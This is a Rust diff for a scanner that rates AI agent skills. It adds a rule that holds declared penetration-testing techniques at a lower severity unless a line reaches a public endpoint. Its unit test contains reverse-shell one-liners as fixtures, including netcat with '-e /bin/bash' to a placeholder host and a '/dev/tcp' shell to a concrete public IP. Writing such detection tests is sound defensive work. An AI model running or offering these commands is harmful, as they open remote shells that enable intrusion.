@@ -8,9 +8,19 @@
 //! data file: YAML, JSON, text) is knowledge to recognise: reported at info, with no kill-chain
 //! stage. SKILL.md itself and every script are still read as what the skill does: the same text
 //! as a step to run stays what it is.
+//!
+//! A security skill may also declare a technique as what it is for ("creating reverse shells
+//! for authorized penetration testing"). A rule's `declared_by` names its technique; where the
+//! skill's name and description declare it, a finding of that rule whose line reaches no public
+//! endpoint (a placeholder `<attacker-ip>`, a lab address, a listener) in one of its documents
+//! (a template for the operator, not a script the skill runs) is a declared capability:
+//! high at most, with no stage, so the skill is held at T1. A concrete public host stays what
+//! it was: a declared pentest tool does not get to phone home.
 
+use crate::rule::DataRule;
 use skillgate_model::bundle::is_document;
 use skillgate_model::purposes::Lexicon;
+use skillgate_model::remote_source::public_endpoint;
 use skillgate_model::{Finding, KillChainStage, Severity};
 
 /// Data files a security skill keeps its knowledge in.
@@ -42,6 +52,39 @@ pub fn check(purpose: &str, out: &mut [Finding]) {
     }
 }
 
+/// Findings of a technique a security skill's name and description declare, on lines that reach
+/// no public endpoint, become declared capabilities.
+pub fn check_declared(declaration: &str, purpose: &str, rules: &[DataRule], out: &mut [Finding]) {
+    if !Lexicon::shared().is_security_work(purpose) {
+        return;
+    }
+    let declares = |code: &str| {
+        rules.iter().any(|r| {
+            r.spec.code == code
+                && r.declared_by
+                    .as_ref()
+                    .is_some_and(|d| d.is_match(declaration))
+        })
+    };
+    // Only the one-liners of its documents: a script's endpoint may sit anywhere in it, and a
+    // script is what the skill runs, not a template for the operator.
+    for f in out.iter_mut().filter(|f| {
+        f.kill_chain != KillChainStage::None
+            && f.file.as_deref().is_some_and(is_document)
+            && declares(&f.code)
+            && [&f.evidence, &f.snippet]
+                .iter()
+                .all(|text| public_endpoint(text.as_deref().unwrap_or("")).is_none())
+    }) {
+        f.severity = f.severity.min(Severity::High);
+        f.kill_chain = KillChainStage::None;
+        f.message.push_str(
+            " (declared: the skill's description names this technique as its purpose, and the \
+             line reaches no public endpoint; held at T1, not rejected)",
+        );
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -58,6 +101,39 @@ mod tests {
         )
         .with_stage(KillChainStage::CredentialAccess)
         .at(file, Some(3), None)
+    }
+
+    #[test]
+    fn a_declared_technique_is_held_unless_it_reaches_a_public_endpoint() {
+        let rules = crate::registry::Registry::load().unwrap();
+        let shell = |file: &str, line: &str| {
+            Finding::new(
+                "SK210",
+                Gate::G1,
+                Severity::Critical,
+                Confidence::High,
+                "execution",
+                "m",
+            )
+            .with_stage(KillChainStage::Execution)
+            .with_evidence(line)
+            .at(file, Some(9), None)
+        };
+        let mut out = vec![
+            shell("SKILL.md", "nc <attacker-ip> 4444 -e /bin/bash"),
+            shell("SKILL.md", "nc -lvnp 4444 -e /bin/bash"),
+            shell("SKILL.md", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1"),
+            shell("scripts/shell.py", "os.dup2(s.fileno(), 0)"),
+        ];
+        let purpose = "netcat\nCreating reverse shells for authorized penetration testing";
+        check_declared(purpose, purpose, rules.data_rules(), &mut out);
+        let held: Vec<bool> = out.iter().map(|f| f.severity == Severity::High).collect();
+        assert_eq!(held, [true, true, false, false]);
+        // Not declared: a log monitor with a reverse shell keeps it critical.
+        let mut undeclared = vec![shell("SKILL.md", "nc <attacker-ip> 4444 -e /bin/bash")];
+        let purpose = "socket monitor\nMonitors a socket server for penetration testing";
+        check_declared(purpose, purpose, rules.data_rules(), &mut undeclared);
+        assert_eq!(undeclared[0].severity, Severity::Critical);
     }
 
     #[test]
